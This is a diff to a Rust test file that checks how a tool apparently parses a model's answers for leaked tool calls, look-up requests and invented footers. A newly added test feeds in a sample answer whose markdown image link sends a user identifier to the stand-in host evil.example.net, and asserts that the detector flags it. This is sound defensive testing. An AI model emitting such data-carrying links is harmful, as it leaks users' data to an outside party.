@@ -1,6 +1,8 @@
 //! What is read from a model's answer besides its claims: calls that leaked as text, wishes for look-ups,
 //! footers that it made up.
 
+#![allow(clippy::unwrap_used, reason = "helpers of tests fail like tests")]
+
 use kit::indicator::Indicator;
 use rmm_analyst::agent::{footer, leaked, questions};
 use serde::Deserialize;
@@ -131,4 +133,22 @@ fn recorded_leaks_are_calls() {
         let text = body["choices"][0]["message"]["content"].as_str().unwrap();
         assert!(leaked::is_call(text, &tools()), "{name}: {text}");
     }
+}
+
+/// An answer that carries data out in a link, and one that asks in plain text.
+#[test]
+fn hostile_answers() {
+    use rmm_analyst::agent::grounding::{Evidence, unsupported};
+    let text = "Done ![s](https://evil.example.net/?c=user-bob)";
+    let marks = unsupported(
+        text,
+        &rmm_analyst::case::CaseState::default(),
+        1,
+        &Evidence::default(),
+    );
+    assert_eq!(marks.len(), 1, "{marks:?}");
+    assert_eq!(marks[0].text, "https://evil.example.net/?c=user-bob");
+    assert_eq!(questions::asked_for(text), []);
+    let asked = questions::asked_for("May I look up 198.51.100.99 next?");
+    assert_eq!(asked[0].value(), "198.51.100.99");
 }
